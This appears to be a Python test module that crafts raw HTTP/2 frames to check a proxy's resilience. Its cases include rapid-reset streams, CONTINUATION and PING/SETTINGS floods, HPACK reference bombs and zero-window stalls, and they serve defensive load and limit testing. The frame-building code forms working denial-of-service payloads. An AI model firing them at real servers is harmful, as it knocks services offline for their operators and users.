"""Attacks with HTTP/2, on a listener without TLS: an attacker that need not encrypt can send more."""

from payloads import many

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
CANCEL = (8).to_bytes(4, "big")
# More streams than a connection may open, cancel or break at once.
STREAMS = 500
QUICK, HOLD = "/quick/?size=1&message=0", "/hostile/hold"


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def setting(number, value):
    return number.to_bytes(2, "big") + value.to_bytes(4, "big")


def preface(*settings):
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, payload=b"".join(settings))


def literal(name, value):
    """A field that is neither compressed nor put into the table (RFC 7541 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def fields(path, method="GET", host="localhost"):
    head = {":method": method, ":scheme": "http", ":authority": host, ":path": path}
    return b"".join(literal(name, value) for name, value in head.items())


def head(stream, block, flags=END_HEADERS | END_STREAM):
    return frame(HEADERS, flags, stream, block)


def streams(count, piece):
    """`piece(stream)` for each of the first streams of a client."""
    return b"".join(map(piece, range(1, 2 * count, 2)))


def bomb(references):
    """One field that is put into the table, and references of one byte to it (RFC 7541 6.1)."""
    define = b"\x40" + literal("x", "b" * 100)[1:]
    return fields(QUICK) + define + bytes([0x80 | 62]) * references


def attacks(attack, constant):
    """The attacks; `attack` is the class of them."""
    def flood(name, title, repeat, first=b"", **more):
        return attack(f"h2-{name}", f"HTTP/2: {title}", constant([preface() + first]), constant(many(repeat)),
                      "--stay", http2=True, **more)

    def heads(name, title, first, options="--stay", **more):
        return attack(f"h2-{name}", f"HTTP/2: {title}", constant([first]), options=options, http2=True, **more)

    get = fields(QUICK)
    overflow = (2 ** 31 - 1).to_bytes(4, "big")
    tiny = fields(QUICK.replace("=1&", "=100000&")) + b"".join(literal(f"{n:x}", "") for n in range(90))
    return [
        heads("rapid-reset", "streams that are reset at once", preface() + streams(STREAMS, lambda stream: (
            head(stream, get) + frame(RST_STREAM, 0, stream, CANCEL))), quick=True),
        flood("late-reset", "resets of a stream that has ended", frame(RST_STREAM, 0, 1, CANCEL), head(1, get)),
        heads("made-reset", "streams that the proxy has to reset", preface() + streams(STREAMS, lambda stream: (
            head(stream, get) + frame(WINDOW_UPDATE, 0, stream, overflow)))),
        flood("continuation", "CONTINUATION without end", frame(CONTINUATION, 0, 1, literal("x", "y" * 100)),
              head(1, get, 0)),
        flood("empty-data", "empty DATA", frame(DATA, 0, 1), head(1, fields(HOLD, "POST"), END_HEADERS), quick=True),
        flood("pings", "PING", frame(PING, payload=bytes(8))),
        flood("settings", "SETTINGS", frame(SETTINGS, payload=setting(INITIAL_WINDOW_SIZE, 65535))),
        flood("priority", "PRIORITY", frame(PRIORITY, 0, 1, bytes(4) + b"\x0f")),
        flood("window-updates", "WINDOW_UPDATE", frame(WINDOW_UPDATE, payload=(1).to_bytes(4, "big"))),
        heads("bomb", "heads of 3,000 references to a field",
              preface() + streams(STREAMS, lambda stream: head(stream, bomb(3000))), quick=True),
        heads("bomb-431", "heads of 250 references to a field",
              preface() + streams(STREAMS, lambda stream: head(stream, bomb(250)))),
        heads("refused", "more streams than permitted", preface() + streams(STREAMS, lambda stream: (
            head(stream, fields(HOLD))))),
        heads("unknown-hosts", "requests for an unknown host", preface() + streams(STREAMS, lambda stream: (
            head(stream, fields("/", host="x"))))),
        heads("stalled", "100 requests of 90 tiny fields, responses without credit",
              preface(setting(INITIAL_WINDOW_SIZE, 0)) + streams(100, lambda stream: head(stream, tiny)),
              "--pause 0.1 --stay", connections=(200, 400), memory_kib=500, served=True),
        heads("no-request", "no request", preface(), "--pause 0.1 --stay", connections=(500, 2000), memory_kib=24),
    ]
